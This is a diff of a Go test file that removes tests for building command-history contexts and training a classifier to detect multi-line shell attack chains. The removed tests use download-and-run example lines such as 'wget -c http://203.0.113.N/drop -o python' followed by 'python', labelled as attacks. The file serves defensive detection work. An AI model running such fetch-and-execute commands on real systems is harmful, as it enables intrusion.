@@ -3,7 +3,6 @@ package tuning
 import (
 	"fmt"
 	"math/rand"
-	"reflect"
 	"sync"
 	"testing"
 
@@ -259,104 +258,6 @@ func (b *writerBuffer) Read(p []byte) (int, error) {
 }
 
 var errEOF = fmt.Errorf("EOF")
-
-func TestBuildContexts(t *testing.T) {
-	items := []TimedLine{
-		{User: "a", Time: 100, Line: "whoami"},
-		{User: "b", Time: 101, Line: "ls"},
-		{User: "a", Time: 110, Line: "wget -c http://x/p -o python"},
-		{User: "a", Time: 115, Line: "python"},
-		{User: "a", Time: 9000, Line: "df -h"}, // far later: no context
-	}
-	got := BuildContexts(items, DefaultContextConfig())
-	want := []string{
-		"whoami",
-		"ls",
-		"whoami ; wget -c http://x/p -o python",
-		"whoami ; wget -c http://x/p -o python ; python",
-		"df -h",
-	}
-	if !reflect.DeepEqual(got, want) {
-		t.Fatalf("BuildContexts:\n got %q\nwant %q", got, want)
-	}
-}
-
-func TestBuildContextsWindow(t *testing.T) {
-	items := make([]TimedLine, 6)
-	for i := range items {
-		items[i] = TimedLine{User: "u", Time: int64(i), Line: fmt.Sprintf("cmd%d", i)}
-	}
-	got := BuildContexts(items, ContextConfig{Window: 2, MaxGap: 100})
-	if got[5] != "cmd4 ; cmd5" {
-		t.Fatalf("window 2 context = %q", got[5])
-	}
-	got = BuildContexts(items, ContextConfig{Window: 3, MaxGap: 100})
-	if got[5] != "cmd3 ; cmd4 ; cmd5" {
-		t.Fatalf("window 3 context = %q", got[5])
-	}
-}
-
-func TestBuildContextsGapBreaksChain(t *testing.T) {
-	items := []TimedLine{
-		{User: "u", Time: 0, Line: "a"},
-		{User: "u", Time: 50, Line: "b"},
-		{User: "u", Time: 1000, Line: "c"}, // gap to b exceeds MaxGap
-	}
-	got := BuildContexts(items, ContextConfig{Window: 3, MaxGap: 100})
-	if got[2] != "c" {
-		t.Fatalf("gap did not break context: %q", got[2])
-	}
-}
-
-func TestMultiLineClassifierCatchesChains(t *testing.T) {
-	f := getFixture(t)
-	// Build a training log where "wget ... -o python" followed by "python"
-	// is the attack chain; in isolation each line is common and benign.
-	r := rand.New(rand.NewSource(21))
-	var items []TimedLine
-	var labels []bool
-	clock := int64(0)
-	user := 0
-	add := func(line string, y bool) {
-		clock += 5
-		items = append(items, TimedLine{User: fmt.Sprintf("u%d", user), Time: clock, Line: line})
-		labels = append(labels, y)
-	}
-	for i := 0; i < 150; i++ {
-		user = i % 9
-		switch i % 5 {
-		case 0:
-			add(benignPool(r), false)
-			add("python", false) // benign interpreter use in benign context
-		case 1:
-			add(fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
-			add("tar -xzf pkg.tar.gz", false)
-		case 2: // the attack chain
-			add(fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python", 1+r.Intn(250)), true)
-			add("python", true)
-		default:
-			add(benignPool(r), false)
-		}
-	}
-	contexts := BuildContexts(items, DefaultContextConfig())
-	cfg := DefaultClassifierConfig()
-	cfg.Epochs = 10
-	cfg.Seed = 5
-	clf, err := TrainClassifier(f.mdl.Encoder, f.tok, contexts, labels, cfg)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var chains, benigns []string
-	for i := 0; i < 8; i++ {
-		chains = append(chains,
-			fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python ; python", 3+7*i))
-		benigns = append(benigns,
-			benignPool(rand.New(rand.NewSource(int64(i))))+" ; python")
-	}
-	if pos, neg := meanScore(t, clf, chains), meanScore(t, clf, benigns); pos <= neg {
-		t.Fatalf("multi-line classifier missed the chain: attack %.3f vs benign %.3f", pos, neg)
-	}
-}
 
 func TestEmbedAndCLSShapes(t *testing.T) {
 	f := getFixture(t)
